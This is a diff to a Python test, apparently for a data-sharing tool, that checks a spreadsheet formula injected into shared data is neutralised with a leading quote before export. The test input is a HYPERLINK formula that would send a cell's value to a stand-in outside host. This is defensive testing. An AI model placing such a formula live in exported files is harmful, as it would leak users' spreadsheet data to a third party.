@@ -162,6 +162,7 @@ def test_a_reference_that_a_spreadsheet_would_run_is_made_harmless_on_a_partners
     formula = '=HYPERLINK("https://elsewhere.example/?"&A1,"A1")'
     publish(ROTHERHAM, square(formula), to=SHEFFIELD, level=Share.Level.GEOMETRY)
     rows, _ = screen(tmp_path, "S60 1AA", "S60 1AB")
-    assert [row["inside_refs"] for row in rows] == [f"'{formula}", ""]
-    assert [row["nearest_ref"] for row in rows] == ["", f"'{formula}"]
-    assert {row["within_refs"] for row in rows} == {f"'{formula}"}
+    assert rows == [
+        ["S60 1AA", "near", f"'{formula}", "", "0.0", f"'{formula}"],
+        ["S60 1AB", "near", "", f"'{formula}", "300.0", f"'{formula}"],
+    ]
